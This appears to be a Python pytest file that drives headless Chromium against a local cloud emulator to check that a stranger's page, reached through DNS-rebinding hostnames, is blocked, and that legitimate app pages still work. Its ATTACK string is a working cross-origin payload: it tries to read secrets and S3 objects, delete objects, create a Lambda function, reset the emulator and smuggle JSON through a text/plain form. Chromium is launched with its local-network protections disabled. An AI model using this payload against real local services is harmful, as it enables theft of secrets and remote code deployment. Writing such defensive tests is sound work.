"""A browser on this machine: what a stranger's page reaches, and that pages of the app still work.

`evil.example` and `friend.example` are names that lead to this machine, as after DNS rebinding.
"""

import base64
import json
import os
import shutil
import signal
import subprocess
import threading
from collections.abc import Iterator, Mapping
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from queue import Empty, Queue
from typing import Any

import pytest

from tests.local.emulator.conftest import Emulator, start, stop, zipped
from tests.local.emulator.test_cdn import RESOURCES

CHROMIUM = shutil.which("chromium") or shutil.which("google-chrome")
SECONDS = 60
SECRET = "kept-from-pages"

ATTACK = """<!doctype html><title>evil</title><body><script>
const gateway = GATEWAY, target = "secretsmanager.GetSecretValue";
const secret = JSON.stringify({SecretId: "mine"});
const evilFunction = JSON.stringify({FunctionName: "evil", Runtime: "python3.12",
  Role: "arn:aws:iam::000000000000:role/x", Handler: "index.handler", Code: {ZipFile: "CODE"}});
const found = {};
async function tries(name, call) {
  try { found[name] = await call(); } catch (error) { found[name] = "blocked: " + error; }
}
const read = async (url, options) => {
  const answer = await fetch(url, options);
  return answer.type === "opaque" ? "opaque" : answer.status + " " + await answer.text();
};
const simple = (body) => ({method: "POST", mode: "no-cors", body});
const opened = (make, events) => new Promise((resolve) => {
  const item = make();
  for (const event of events) item["on" + event] = () => resolve(event);
});
(async () => {
  for (const host of ["127.0.0.1", "localhost", "evil.example", "0.0.0.0"]) {
    const base = `http://${host}:${gateway}`;
    const functions = base + "/2015-03-31/functions";
    await tries(`${host} function`, () => read(functions, simple(evilFunction)));
    await tries(`${host} simple`, () =>
      read(`${base}/?Action=GetSecretValue&SecretId=mine`, simple(secret)));
    await tries(`${host} read`, () => read(base + "/mine/object.txt"));
    await tries(`${host} delete`, () => read(base + "/mine/object.txt", {method: "DELETE"}));
    await tries(`${host} preflight`, () => read(base + "/", {method: "POST", body: secret,
      headers: {"X-Amz-Target": target, "Content-Type": "application/x-amz-json-1.1"}}));
    await tries(`${host} urls`, () => read(base + "/_serverless_stack/urls"));
    await tries(`${host} reset`, () => read(base + "/_ministack/reset", simple("")));
    await tries(`${host} image`, () => opened(() => Object.assign(new Image(),
      {src: base + "/mine/pixel.gif"}), ["load", "error"]));
    await tries(`${host} socket`, () => opened(() =>
      new WebSocket(`ws://${host}:${gateway}/mqtt`, "mqtt"), ["open", "error"]));
    const frame = Object.assign(document.createElement("iframe"), {name: "f" + host});
    const form = Object.assign(document.createElement("form"), {method: "POST", target: frame.name,
      enctype: "text/plain", action: functions});
    form.append(Object.assign(document.createElement("input"),
      {name: evilFunction.slice(0, -1) + ', "Description": "', value: '"}'}));
    document.body.append(frame, form);
    await tries(`${host} form`, () => opened(() => { form.submit(); return frame; }, ["load"]));
  }
  await fetch("/result", {method: "POST", body: JSON.stringify(found)});
})();
</script>"""

FRIEND = """<!doctype html><script>
(async () => {
  const found = {};
  const text = async (answer) => answer.status + " " + await answer.text();
  const put = await fetch(PUT_URL, {method: "PUT", body: "uploaded",
    headers: {"Content-Type": "text/plain"}});
  found.put = await text(put);
  found.get = await text(await fetch(GET_URL));
  const form = new FormData();
  for (const [name, value] of Object.entries(FIELDS)) form.append(name, value);
  form.append("file", new Blob(["posted"]), "a.txt");
  found.post = (await fetch(POST_URL, {method: "POST", body: form})).status;
  found.image = await new Promise((resolve) => {
    const image = new Image();
    image.onload = () => resolve("loaded");
    image.onerror = () => resolve("failed");
    image.src = PIXEL_URL;
  });
  await fetch("/result", {method: "POST", body: JSON.stringify(found)});
})();
</script>"""

HOME = """<!doctype html><title>shop</title><script>
(async () => {
  const answer = await fetch("/api/orders", {method: "POST", body: "{}",
    headers: {"Content-Type": "application/json"}});
  const event = await answer.json();
  const found = {origin: location.origin, status: answer.status, path: event.path};
  await fetch("RESULT", {method: "POST", mode: "no-cors", body: JSON.stringify(found)});
})();
</script>"""

PIXEL = base64.b64decode("R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7")

pytestmark = [pytest.mark.slow, pytest.mark.skipif(not CHROMIUM, reason="Chromium is missing")]


class Pages:
    """A web server on loopback with pages that report to `/result`."""

    def __init__(self, port: int, results: "Queue[dict[str, Any]]") -> None:
        self.port = port
        self.content: dict[str, str] = {}
        self._results = results

    def result(self) -> dict[str, Any]:
        try:
            return self._results.get(timeout=SECONDS)
        except Empty:
            raise AssertionError("the page has reported nothing") from None


@pytest.fixture
def pages() -> Iterator[Pages]:
    results: Queue[dict[str, Any]] = Queue()

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            text = served.content.get(self.path, "")
            self.send_response(200 if text else 404)
            self.send_header("Content-Type", "text/html; charset=utf-8")
            self.end_headers()
            self.wfile.write(text.encode())

        def do_POST(self) -> None:
            body = self.rfile.read(int(self.headers["Content-Length"]))
            results.put(json.loads(body))
            self.send_response(204)
            self.end_headers()

        def log_message(self, *_: object) -> None:
            """Print nothing."""

    with ThreadingHTTPServer(("127.0.0.1", 0), Handler) as server:
        served = Pages(server.server_port, results)
        threading.Thread(target=server.serve_forever, daemon=True).start()
        yield served
        server.shutdown()


@contextmanager
def browser(url: str, profile: Path) -> Iterator[None]:
    """Open a page in headless Chromium, without its own protection of loopback addresses."""
    names = ",".join(f"MAP {name}.example 127.0.0.1" for name in ("evil", "friend"))
    command = [
        str(CHROMIUM),
        "--headless=new",
        "--no-sandbox",
        "--disable-gpu",
        "--disable-dev-shm-usage",
        "--no-first-run",
        "--no-proxy-server",
        "--disable-features=LocalNetworkAccessChecks,BlockInsecurePrivateNetworkRequests",
        f"--host-resolver-rules={names}",
        f"--user-data-dir={profile}",
        url,
    ]
    process = subprocess.Popen(
        command, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True
    )
    try:
        yield
    finally:
        os.killpg(process.pid, signal.SIGKILL)
        process.wait()


@pytest.fixture(scope="module")
def own_cloud(tmp_path_factory: pytest.TempPathFactory, overlays: Path) -> Iterator[Emulator]:
    emulator = start(tmp_path_factory.mktemp("browser"), overlays)
    client = emulator.client("s3")
    client.create_bucket(Bucket="mine")
    client.put_object(Bucket="mine", Key="object.txt", Body=SECRET.encode())
    client.put_object(Bucket="mine", Key="pixel.gif", Body=PIXEL, ContentType="image/gif")
    emulator.client("secretsmanager").create_secret(Name="mine", SecretString=SECRET)
    yield emulator
    stop(emulator)


def filled(page: str, values: Mapping[str, object]) -> str:
    for name, value in values.items():
        page = page.replace(name, json.dumps(value))
    return page


def test_a_strangers_page_reaches_nothing(
    own_cloud: Emulator, pages: Pages, tmp_path: Path
) -> None:
    code = base64.b64encode(zipped({"index.py": "def handler(e, c): return 1"})).decode()
    pages.content["/"] = ATTACK.replace("GATEWAY", str(own_cloud.gateway)).replace("CODE", code)
    for origin in (f"http://evil.example:{pages.port}/", f"http://localhost:{pages.port}/"):
        with browser(origin, tmp_path / "profile"):
            found = pages.result()
        assert len(found) == 4 * 10
        assert SECRET not in json.dumps(found)
        for name, outcome in found.items():
            kind = name.partition(" ")[2]
            if kind in ("image", "socket"):
                assert outcome == "error", name
            elif kind in ("read", "delete", "preflight", "urls"):
                assert str(outcome).startswith("blocked"), name
    functions = own_cloud.client("lambda").list_functions()["Functions"]
    assert [item["FunctionName"] for item in functions] == []
    client = own_cloud.client("s3")
    assert client.get_object(Bucket="mine", Key="object.txt")["Body"].read() == SECRET.encode()


def test_a_page_that_a_bucket_allows_uploads(
    own_cloud: Emulator, pages: Pages, tmp_path: Path
) -> None:
    client = own_cloud.client("s3")
    origin = f"http://friend.example:{pages.port}"
    rule = {
        "AllowedOrigins": [origin],
        "AllowedMethods": ["GET", "PUT", "POST"],
        "AllowedHeaders": ["*"],
    }
    client.put_bucket_cors(Bucket="mine", CORSConfiguration={"CORSRules": [rule]})
    target = {"Bucket": "mine", "Key": "new.txt"}
    put = client.generate_presigned_url("put_object", {**target, "ContentType": "text/plain"})
    post = client.generate_presigned_post("mine", "form.txt")
    pixel = {"Bucket": "mine", "Key": "pixel.gif"}
    values = {
        "PUT_URL": put,
        "GET_URL": client.generate_presigned_url("get_object", target),
        "POST_URL": post["url"],
        "FIELDS": post["fields"],
        "PIXEL_URL": client.generate_presigned_url("get_object", pixel),
    }
    pages.content["/"] = filled(FRIEND, values)
    with browser(f"{origin}/", tmp_path / "profile"):
        found = pages.result()
    assert found == {"put": "200 ", "get": "200 uploaded", "post": 204, "image": "loaded"}
    assert client.get_object(Bucket="mine", Key="form.txt")["Body"].read() == b"posted"


def test_the_page_of_the_app_calls_its_api(
    own_cloud: Emulator, pages: Pages, tmp_path: Path
) -> None:
    bucket = own_cloud.deploy("site", RESOURCES, Bucket={"Ref": "Bucket"})["Bucket"]
    home = HOME.replace("RESULT", f"http://127.0.0.1:{pages.port}/result")
    own_cloud.client("s3").put_object(
        Bucket=bucket, Key="index.html", Body=home.encode(), ContentType="text/html"
    )
    (distribution,) = own_cloud.urls()["distributions"]
    with browser(distribution["url"], tmp_path / "profile"):
        found = pages.result()
    origin = f"http://127.0.0.1:{own_cloud.cdn}"
    assert found == {"origin": origin, "status": 200, "path": "/api/orders"}
